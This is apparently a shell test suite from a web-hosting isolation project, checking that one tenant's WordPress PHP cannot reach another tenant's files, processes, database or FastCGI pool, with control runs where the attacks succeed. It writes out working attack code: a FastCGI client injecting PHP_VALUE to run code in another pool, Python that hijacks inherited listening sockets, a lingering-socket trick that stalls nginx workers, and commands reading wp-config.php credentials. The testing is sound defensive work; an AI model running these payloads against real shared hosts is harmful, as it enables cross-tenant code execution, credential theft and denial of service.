# SPDX-License-Identifier: GPL-2.0-or-later
# What alice's PHP tries against bob and the host, by her WordPress in her room; the control is the same page by a
# pool of the host's with her uid, which succeeds. Services without WordPress: tests/attacks/16-services.sh.

tried() { # name, what is in the answer if it succeeds, run or code, what[, page for the control]
	unlike "alice: $1" "$2" "$(ask alice "$3" "$4")"
	like "control: $1" "$2" "$(ask "${5:-usual-alice}" "$3" "$4")"
}

# A client of FastCGI in PHP, as people pass it around: who reaches a pool has it run what they like.
fastcgi() { # address
	cat <<-X
	\$s = @stream_socket_client('$1', \$no, \$why, 5);
	if (!\$s) { echo \$why; return; }
	\$record = fn(\$type, \$d) => pack('CCnnCC', 1, \$type, 1, strlen(\$d), 0, 0) . \$d;
	\$body = '<?php echo "runs as ", posix_getpwuid(posix_getuid())["name"]; exit;';
	\$params = '';
	foreach (['REQUEST_METHOD' => 'POST', 'CONTENT_LENGTH' => strlen(\$body), 'SCRIPT_FILENAME' => '/usr/share/wordpress/index.php',
		'PHP_VALUE' => "auto_prepend_file=php://input\nallow_url_include=1"] as \$k => \$v)
		\$params .= chr(strlen(\$k)) . chr(strlen(\$v)) . \$k . \$v;
	fwrite(\$s, \$record(1, pack('nC6', 1, 0, 0, 0, 0, 0, 0)) . \$record(4, \$params) . \$record(4, '') . \$record(5, \$body) . \$record(5, ''));
	stream_set_timeout(\$s, 5);
	echo stream_get_contents(\$s);
	X
}

# What FPM listens on is inherited by what its page runs: shut down and disconnected, it is connected elsewhere.
shut_down() { # address as Python's bytes
	cat <<-X
	python3 - <<'P'
	import ctypes, os, socket, struct
	libc, where = ctypes.CDLL(None), $1
	for fd in range(3, 64):
	    try:
	        s = socket.socket(fileno=fd)
	        if not s.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
	            s.detach()
	            continue
	        s.shutdown(socket.SHUT_RDWR)
	        libc.connect(fd, bytes(16), 16)
	        print("has-listener", "is-" + "connected" if libc.connect(fd, where, len(where)) == 0 else "refused")
	    except OSError:
	        pass
	P
	X
}

# A TCP socket whose last close waits, sent to the web server by the request's own socket.
lingers=$(cat <<'X'
python3 - <<'P'
import os, socket, struct, time
def web_server(fd): # the worker's end of the request
    try:
        s = socket.socket(fileno=fd)
    except OSError:
        return None
    if s.family == socket.AF_UNIX and not s.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
        return s
    s.detach()
web = [s for s in map(web_server, range(3, 64)) if s]
lingering, kept = [], []
for _ in web * 5:
    silent = socket.create_server(("127.0.0.1", 0))
    s = socket.create_connection(silent.getsockname())
    kept += [silent, silent.accept()[0]]
    s.setblocking(False)
    try:
        while True:
            s.send(b"x" * 65536)
    except BlockingIOError:
        pass
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 20))
    s.setblocking(True)
    lingering.append(s.detach())
if os.fork() == 0: # who reads nothing stays
    for fd in lingering:
        os.close(fd)
    time.sleep(10)
    os._exit(0)
for w in web: # a record of FastCGI that goes on for long, so that nginx reads on
    try:
        w.send(struct.pack(">BBHHBB", 1, 6, 1, 9000, 0, 0) + b"Content-Type: text/plain\r\n\r\n")
    except OSError:
        pass
for w, fd in zip(web * 5, lingering): # whoever closes it last waits: the one who has to wake up first, or this one
    if os.fork() == 0:
        for other in lingering:
            try:
                other == fd or os.close(other)
            except OSError:
                pass
        time.sleep(0.05)
        try:
            socket.send_fds(w, [b"x"], [fd])
        except OSError:
            pass
        os.close(fd)
        os._exit(0)
    os.close(fd)
    time.sleep(0.1)
P
X
)
tries_of() { # command...: a control that has to win a race: three tries
	local said n
	for n in 1 2 3; do
		said=$("$@")
		[ "$said" != "a worker stands still" ] || break
	done
	echo "$said"
}
nginx_after() { # page that is asked first: does a worker of nginx wait in a close then, and serve nobody?
	local worker still=0 asked end=$((SECONDS + 10))
	timeout 20 curl -s --data-urlencode "run=$lingers" "http://$1.example/" >/dev/null & asked=$!
	while [ $SECONDS -lt $end ] && [ $still -lt 15 ]; do
		for worker in $(pgrep -P "$(cat /run/nginx.pid)"); do
			[ "$(cat /proc/$worker/wchan)" != wait_woken ] || still=$((still + 1))
		done
		sleep 0.1
	done
	[ $still -ge 15 ] && echo "a worker stands still" || echo "goes on"
	wait $asked
}

attacks() {
	local B=$WEB/bob/web.sock A=$WEB/alice/web.sock
	chmod 644 /home/bob/www/wp-config.php # as it is unpacked; on such a host it has to be readable for somebody
	tried "bob's wp-config.php" "DB_NAME', 'bob'" run 'cat /home/bob/www/wp-config.php'
	tried "the pages of bob, by PHP" "wp-blog-header" code 'echo @file_get_contents("/home/bob/www/index.php");'
	chmod 600 /home/bob/www/wp-config.php
	tried "bob's processes" '/home/bob/etc/fpm.conf' run 'cat /proc/[0-9]*/cmdline | tr "\0" " "'
	tried "to end bob's pool" 'by-its-number' run "kill -0 $(pgrep -u bob -of 'php-fpm: master') 2>&1 | grep -q permitted && echo by-its-number"
	unlike "alice: bob's pool as FastCGI's client" 'runs as bob' "$(ask alice code "$(fastcgi "unix://$B")")$(ask alice code "$(fastcgi tcp://127.0.0.1:9002)")"
	like "control: bob's pool as FastCGI's client" 'runs as bob' "$(ask usual-alice code "$(fastcgi tcp://127.0.0.1:9002)" | tr -d '\0')"
	tried "an address of the host: nginx" "The site of bob" run 'curl -s --max-time 5 http://bob.example/ || curl -s --max-time 5 -H "Host: bob.example" http://127.0.0.1/'

	python3 -c 'import socket, time; s = socket.socket(socket.AF_UNIX); s.bind("\0of-the-host"); s.listen(); time.sleep(900)' & held="$held $!"
	until_true 10 grep -q of-the-host /proc/net/unix
	tried "abstract sockets of the host" is-connected run 'python3 -c "import socket; s = socket.socket(socket.AF_UNIX); s.connect(\"\0of-the-host\"); print(\"is-connected\")"'

	ask alice run "rm -f $A; ln -sf $B $A; mv $WEB/alice $WEB/x; ln -s $WEB/bob $WEB/alice" >/dev/null
	is "alice: a link to bob's socket in the place of hers" "pool of alice" "$(curl -s http://ping-alice.example/ping)"
	install -d -o www-data /home/alice # 711 stays
	chown alice /home/alice
	hostel run alice -- ln -s $B /home/alice/own.sock
	is "control: where nginx goes to a socket in her home" "pool of bob" "$(curl -s http://ping-alice.example/own)"

	local database='$m = @new mysqli("localhost", "%s", "", "bob", 0, "/run/mysqld/mysqld.sock"); $r = $m->query("SELECT user_email FROM bob.wp_users"); print_r($r ? $r->fetch_row() : $m->error);'
	local as_alice
	as_alice="mysqli_report(MYSQLI_REPORT_OFF); $(printf "$database" alice)"
	unlike "alice: bob's database, as herself" bob@bob.example "$(ask alice code "$as_alice")"
	mariadb -e 'GRANT SELECT ON bob.* TO alice@localhost'
	like "control: with a grant" bob@bob.example "$(ask alice code "$as_alice")"
	mariadb -e 'REVOKE SELECT ON bob.* FROM alice@localhost'
	tried "bob's database, under his name" bob@bob.example code "mysqli_report(MYSQLI_REPORT_OFF); $(printf "$database" bob)" bob
	# Her listener is her own loss: a new start has a new one.
	local nginx='struct.pack("=H", 2) + struct.pack(">H", 80) + bytes([127, 0, 0, 1]) + bytes(8)'
	like "alice: her page inherits what FPM listens on" has-listener "$(ask alice run "$(shut_down "$nginx")" | tee /tmp/shut)"
	unlike "alice: shut down and connected to the host's port" is-connected "$(cat /tmp/shut)"
	like "control: a listener of TCP, made on the host" is-connected "$(ask usual-alice run "$(shut_down "$nginx")")"
	hostel kill alice >/dev/null
	kill $usual; wait $usual 2>/dev/null; usual_pools
	ok "her site is back" serves alice
	ok "and the host's pools" serves usual-alice
	is "alice: a socket whose close waits, sent to nginx" "goes on" "$(nginx_after alice)"
	is "control: without a carrier between them" "a worker stands still" "$(tries_of nginx_after unix-alice)"
}
